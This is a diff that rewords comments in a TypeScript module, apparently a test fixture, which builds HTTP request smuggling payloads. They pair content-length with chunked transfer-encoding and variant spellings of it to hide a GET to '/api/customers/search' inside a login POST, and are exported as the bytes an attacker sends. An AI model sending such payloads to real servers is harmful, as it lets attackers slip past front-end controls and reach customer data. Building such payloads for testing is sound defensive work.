@@ -1,7 +1,7 @@
-/** What the hidden call asks for: nothing else in a run does. */
+/** The path of the hidden call: nothing else in a run requests it. */
 export const TARGET = '/api/customers/search';
 
-/** Without an end: only a call that comes after it on the same connection makes it whole. */
+/** Incomplete: only a following call on the same connection completes it. */
 const OPEN_END = `GET ${TARGET}?phone=0 HTTP/1.1\r\nhost: shop\r\nx: `;
 const WHOLE = `GET ${TARGET}?phone=0 HTTP/1.1\r\nhost: shop\r\n\r\n`;
 const LAST_CHUNK = '0\r\n\r\n';
@@ -11,16 +11,16 @@ const post = (headers: string, body: string) =>
   `POST /api/auth/login HTTP/1.1\r\nhost: shop\r\ncontent-type: application/json\r\n${headers}\r\n${body}`;
 const lengthOf = (text: string) => `content-length: ${text.length}\r\n`;
 
-/** One goes by the length and sees a body; the other by the pieces, and sees the end of it and then another call. */
+/** A side that uses the length sees one body; a side that uses the chunks sees their end, and then another call. */
 const afterLastChunk = (header: string) =>
   post(`${lengthOf(LAST_CHUNK + OPEN_END)}${header}`, LAST_CHUNK + OPEN_END);
-/** The other way round: who goes by the length sees the body end before the call that the piece holds. */
+/** The opposite: for a side that uses the length, the body ends before the call that is inside the chunk. */
 const withinChunk = (header: string) => {
   const body = chunkOf(WHOLE) + LAST_CHUNK;
   return post(`content-length: ${body.indexOf('\r\n') + 2}\r\n${header}`, body);
 };
 
-/** Ways of saying "in pieces" that one side may read and the other not. */
+/** Notations of chunked encoding that one side may accept and the other not. */
 const ENCODINGS: Record<string, string> = {
   'in pieces': 'transfer-encoding: chunked\r\n',
   'another word': 'transfer-encoding: xchunked\r\n',
@@ -62,7 +62,7 @@ const PIECES: Record<string, string> = {
   'a size in another notation': `0x0\r\n\r\n${OPEN_END}`,
 };
 
-/** Each with the bytes that an attacker writes on a line of theirs. */
+/** Each with the bytes that an attacker sends on a connection. */
 export const SMUGGLING: [string, string][] = [
   ...Object.entries(ENCODINGS).flatMap(([what, header]): [string, string][] => [
     [`a length beside pieces, ${what}: after the last`, afterLastChunk(header)],
